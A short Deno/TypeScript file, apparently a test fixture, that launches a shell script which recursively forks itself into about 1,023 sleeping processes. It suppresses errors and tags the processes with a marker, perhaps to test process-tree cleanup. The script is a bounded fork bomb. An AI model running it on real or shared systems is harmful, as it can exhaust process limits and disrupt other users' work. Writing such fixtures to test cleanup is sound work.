// Doubles until it has 1,023 processes, should nobody end it.
const bomb = `exec 2>/dev/null
  : @MARK@; f() { [ $1 -gt 0 ] && { f $(($1-1)) & f $(($1-1)) & }; sleep 40; }; f 9`;

export async function main() {
  await new Deno.Command("sh", { args: ["-c", bomb], stdin: "null" }).spawn().status;
}
